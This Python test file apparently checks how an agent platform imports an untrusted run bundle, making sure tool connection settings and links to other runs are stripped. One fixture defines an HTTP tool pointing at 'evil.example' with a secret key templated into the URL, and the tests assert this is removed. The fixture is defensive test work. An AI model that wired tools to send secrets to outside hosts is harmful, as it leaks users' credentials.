"""A run that comes by file: what it keeps, what it leaves behind, and what it was where it comes from."""

from typing import Any

from services.cost.charges import charges
from shared.bundle.arrival import arrived, run_here
from shared.bundle.origin import MARK, WRITER, as_sent
from shared.bundle.reading import Bundle, read
from shared.price_book import PriceBook
from shared.run_state import fold
from shared.steps import AgentSnapshot, ReplayPlan, RunRequested, Step, ToolCall, ToolSpec
from shared.subjects import RunKey
from tests.support.bundles import bundled, rehearsed, steps_of
from tests.support.replays import Stage
from tests.support.run_samples import whole_run
from tests.support.steps import call, new_key, only, requested, tool_spec

REMOTE = ToolSpec(
    name="shop",
    description="",
    parameters={},
    source="http",
    settings={"url": "https://evil.example/{secret:KEY}"},
)
ASKED = ToolSpec(
    name="ask", description="", parameters={}, source="agent", settings={"agent": "b", "version": 1}
)


def bound_run() -> list[Step]:
    """A run with all that may bind it to others."""
    key, other = new_key("theirs"), new_key().run_id
    plan = ReplayPlan(mode="fork", source_run_id=other, fork_step=3)
    fields: dict[str, Any] = {
        "session_id": "s",
        "group": "nightly",
        "after_run_id": other,
        "parent_run_id": other,
        "parent_call_id": "call1",
        "root_run_id": other,
        "replay": plan,
        "metadata": {"ticket": 7},
        "tools": (REMOTE, ASKED, tool_spec("pure")),
        "agents": (AgentSnapshot(ref=requested(key).agent, model="m", tools=(REMOTE,)),),
    }
    steps = [requested(key, **fields), *whole_run(key)[1:]]
    steps[3] = steps[3].model_copy(update={"copied_from": 3})
    return [
        step.model_copy(update={"idempotency_key": f"{key.run_id}:call"})
        if isinstance(step, ToolCall)
        else step
        for step in steps
    ]


def taken_in(steps: list[Step], project: str = "ours") -> tuple[Bundle, list[Step]]:
    bundle = read(bundled(steps))
    return bundle, arrived(bundle, steps_of(bundle), run_here(bundle, project), trusted=False)


def test_it_is_the_same_run_under_an_id_that_follows_from_project_and_file() -> None:
    steps = bound_run()
    bundle, here = taken_in(steps)
    key = run_here(bundle, "ours")
    assert {(step.run_id, step.project, step.writer) for step in here} == {(key.run_id, "ours", WRITER)}
    assert [(step.kind, step.seq, step.at) for step in here] == [
        (step.kind, step.seq, step.at) for step in steps
    ]
    assert taken_in(steps) == (bundle, here)
    others = {
        run_here(bundle, "theirs"),
        run_here(bundle, "ours", 1),
        run_here(read(bundled(whole_run(key))), "ours"),
    }
    assert len({key, *others}) == 4
    assert key.accepted_at == RunKey("theirs", steps[0].run_id).accepted_at


def test_nothing_is_charged_or_counted_where_it_comes_to() -> None:
    _, here = taken_in(bound_run())
    assert charges(here, PriceBook()) == []
    state = fold(here)
    assert (state.model_calls, state.usage.total) == (0, 0)
    assert len(charges(bound_run(), PriceBook())) == 2  # of three calls one was copied


def test_what_binds_it_to_other_runs_and_how_tools_are_reached_stays_behind() -> None:
    bundle, here = taken_in(bound_run())
    request = here[0]
    assert isinstance(request, RunRequested)
    bonds = (
        request.session_id,
        request.group,
        request.after_run_id,
        request.parent_run_id,
        request.root_run_id,
    )
    assert {*bonds, request.parent_call_id, request.replay} == {None}
    assert [tool.settings for tool in request.tools] == [{}, ASKED.settings, {}]
    assert request.agents[0].tools[0].settings == {}
    assert {step.idempotency_key for step in only(here, ToolCall)} == {f"{request.run_id}:call"}
    mark = request.metadata[MARK]
    assert isinstance(mark, dict)
    assert request.metadata["ticket"] == 7
    assert (mark["run_id"], mark["project"]) == (bundle.manifest.run_id, "theirs")
    assert (mark["bundle"], mark["signer"], mark["trusted"]) == (bundle.sha256, "56475aa75463474c", False)


def test_what_it_was_where_it_comes_from_is_known() -> None:
    steps = bound_run()
    _, here = taken_in(steps)
    back = as_sent(here)
    assert [step.model_copy(update={"writer": "test"}) for step in back[1:]] == steps[1:]
    request, first = back[0], steps[0]
    assert isinstance(request, RunRequested)
    assert isinstance(first, RunRequested)
    ours = {"writer": "test", "tools": first.tools, "agents": first.agents}
    assert request.model_copy(update=ours) == first
    assert as_sent(steps) == steps
    assert as_sent(back) == back
    assert as_sent([]) == []


async def test_an_imported_run_can_still_be_held_against_todays_code() -> None:
    repeated = [call("pure", '{"value": 1}', call_id="same")]
    played = await Stage().play(
        [repeated, repeated, "Done."]
    )  # the second call gets an id that is made of the run's
    _, here = taken_in(played.steps)
    outcome = await rehearsed(here)
    assert outcome.divergence is None
    assert (outcome.steps, outcome.model_calls) == (len(here), 3)
